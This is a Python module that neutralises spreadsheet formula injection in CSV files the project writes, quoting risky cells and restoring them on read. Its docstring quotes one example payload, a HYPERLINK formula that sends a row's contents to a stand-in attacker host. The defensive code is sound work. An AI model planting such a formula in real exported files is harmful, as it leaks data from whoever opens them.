"""Every CSV haechi writes goes through here, so no cell can become a spreadsheet formula.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return before one) as a formula: a label such as
``=HYPERLINK("https://attacker.example/?"&A1, "open")`` would send the row to a stranger when
a partner opens the file. Such a text cell is written with a single quote in front, which
spreadsheets show as plain text and hide. A cell that starts with a quote gets one more, so
:func:`restore` gives back exactly what was written: files round-trip through haechi.
Numbers are written as they are (a negative number is data, not a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
"""First characters that make spreadsheets read a cell as a formula."""

_QUOTE = "'"


def neutralise(value: Any) -> Any:
    """A cell as it is safe to write: text that a spreadsheet would run gets a quote first."""
    if isinstance(value, str) and value and (value[0] in FORMULA_STARTS or value[0] == _QUOTE):
        return _QUOTE + value
    return value


def restore(value: str) -> str:
    """The text a neutralised cell stood for (the inverse of :func:`neutralise`)."""
    if len(value) > 1 and value[0] == _QUOTE and (value[1] in FORMULA_STARTS or value[1] == _QUOTE):
        return value[1:]
    return value


def write_csv(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """CSV text with a header row and every text cell neutralised.

    Lines end in CRLF, as RFC 4180 has it: with a bare LF, Python's writer leaves a cell
    holding a lone CR unquoted, and a reader then splits the row there.
    """
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(fieldnames), lineterminator="\r\n")
    writer.writerow({name: neutralise(name) for name in fieldnames})
    for row in rows:
        writer.writerow({key: neutralise(value) for key, value in row.items()})
    return out.getvalue()


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows of CSV text, each cell restored (see :func:`restore`)."""
    reader = csv.DictReader(io.StringIO(text, newline=""))  # cells may hold CR and LF
    fields = [restore(name) for name in reader.fieldnames or []]
    rows = [
        {restore(k): restore(v or "") for k, v in row.items() if isinstance(k, str)}
        for row in reader
    ]
    return fields, rows
